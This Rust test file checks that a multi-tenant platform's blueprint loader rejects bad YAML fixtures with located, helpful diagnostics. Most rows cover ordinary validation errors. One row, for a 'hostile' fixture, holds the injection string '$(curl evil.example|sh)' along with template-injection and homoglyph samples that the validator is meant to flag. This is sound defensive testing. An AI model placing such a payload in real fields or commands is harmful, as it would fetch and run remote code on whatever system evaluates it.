//! Bad blueprints: every problem reported with file:line:column, what is wrong and how to fix
//! it. One fixture per family of mistakes under tests/fixtures/bad; the rendered diagnostics
//! are snapshots, and the table below pins the facts that matter most.

use std::path::Path;

use tenancy::blueprint::{BlueprintError, Diagnostics, load_str};

fn diagnostics(path: &Path) -> Diagnostics {
    // Named by the relative path, so the snapshots name the file the same way everywhere (and
    // without changing the process's working directory under the other tests' feet).
    let relative = Path::new("tests/fixtures/bad").join(path.file_name().unwrap());
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    match load_str(&relative.display().to_string(), &text) {
        Err(BlueprintError::Invalid(diagnostics)) => diagnostics,
        Err(other) => panic!("{}: expected diagnostics, got {other}", relative.display()),
        Ok(_) => panic!("{} loaded, but it is meant to be invalid", relative.display()),
    }
}

#[test]
fn every_bad_fixture_is_rejected_with_located_diagnostics() {
    insta::glob!("fixtures/bad/*.yaml", |path| {
        let found = diagnostics(path);
        for d in found.iter() {
            assert!(d.position.line >= 1 && d.position.column >= 1, "{d}");
            assert!(!d.help.is_empty(), "{d}");
        }
        insta::assert_snapshot!(found.to_string());
    });
}

/// (fixture, how many problems, facts that must appear in the rendering).
const EXPECTED: &[(&str, usize, &[&str])] = &[
    ("empty.yaml", 1, &["the blueprint is empty", "empty.yaml:1:1"]),
    (
        "pooling.yaml",
        6,
        &[
            "`product` keeps its data in one shared table only",
            "`order` has a sort key, so its table cannot be pooled by tenant",
            "no service `invoice`",
            "0 cells is outside 1..=500",
            "pooling.yaml:34:23 (tiers[1].storage.order)",
            "storage overrides are for pooled tiers",
            "tier `premium` has dedicated compute, which has no cells",
        ],
    ),
    ("not-yaml.yaml", 1, &["not valid YAML", "not-yaml.yaml:4:8"]),
    ("not-a-mapping.yaml", 1, &["the blueprint is not a mapping"]),
    ("alias-bomb.yaml", 1, &["repetition limit exceeded"]),
    ("account-as-number.yaml", 2, &["account-as-number.yaml:4:14 (platform.accountId)", "quoted string"]),
    (
        "missing-and-unknown-fields.yaml",
        3,
        &[
            "missing field `cluster`",
            "unknown field `servics`",
            "missing-and-unknown-fields.yaml:26:5 (tenants[0].plan)",
        ],
    ),
    (
        "platform-values.yaml",
        11,
        &[
            "account id `12345678901` is not 12 digits",
            "region `europe-west` is not an AWS region code",
            "domain `localhost` needs at least two labels",
            "Kubernetes version `v1.33`",
            "`arn:aws:sts::123456789012:assumed-role/Admin/me` is not an IAM role or user ARN",
        ],
    ),
    (
        "removed-fields.yaml",
        2,
        &[
            "removed-fields.yaml:11:15 (cluster.oidcIssuer)",
            "`oidcIssuer` is no longer part of a blueprint",
            "EKS Pod Identity",
            "removed-fields.yaml:17:12 (services[0].image)",
            "the images step builds services/<name>/Dockerfile",
        ],
    ),
    (
        "tiers.yaml",
        17,
        &[
            "quantity `lots` is not a Kubernetes quantity",
            "tiers.yaml:19:45 (tiers[0].quotas.pods)",
            "`pods` is -1, which is negative",
            "autoscaling max 2 is below min 4",
            "has pooled compute and dedicated identity",
            "Kubernetes 1.30 is not supported",
            "the pod quota 2 is below the 5 pods",
            "leaves 20m per container over 5 pods, below the 50m minimum",
        ],
    ),
    (
        "tenants.yaml",
        10,
        &[
            "duplicate tenant id `acme`",
            "not allowed in a DNS-1123 label",
            "tenants `x` and `history-x` both derive DynamoDB table name `saas-invoice-history-x`",
            "which the platform itself uses",
            "covers the platform table `saas-provider-metadata`",
            "too long for its derived names",
            "use a tenant id of at most 49 characters",
            "names tier `gold`, which is not defined",
            "email address `not an email` is not valid",
            "in the shared user pool",
        ],
    ),
    (
        "hostile.yaml",
        8,
        &["`$(curl evil.example|sh)`", "`${AWS::AccountId}`", "`{{name}}`", "contains 'а'", "is 10000 characters long"],
    ),
];

#[test]
fn each_fixture_reports_what_it_is_about() {
    let dir = crate::common::root().join("tests/fixtures/bad");
    let fixtures: Vec<String> =
        std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    for fixture in &fixtures {
        assert!(EXPECTED.iter().any(|(name, ..)| name == fixture), "{fixture} has no row in EXPECTED");
    }
    for (name, count, facts) in EXPECTED {
        let rendered = diagnostics(&dir.join(name));
        let text = rendered.to_string();
        assert_eq!(rendered.len(), *count, "{name}:\n{text}");
        for fact in *facts {
            assert!(text.contains(fact), "{name}: missing {fact:?} in\n{text}");
        }
    }
}

#[test]
fn a_huge_value_is_shown_cut_short() {
    let rendered = diagnostics(&crate::common::root().join("tests/fixtures/bad/hostile.yaml")).to_string();
    assert!(rendered.lines().all(|line| line.len() < 400), "a line echoes the huge value whole");
}
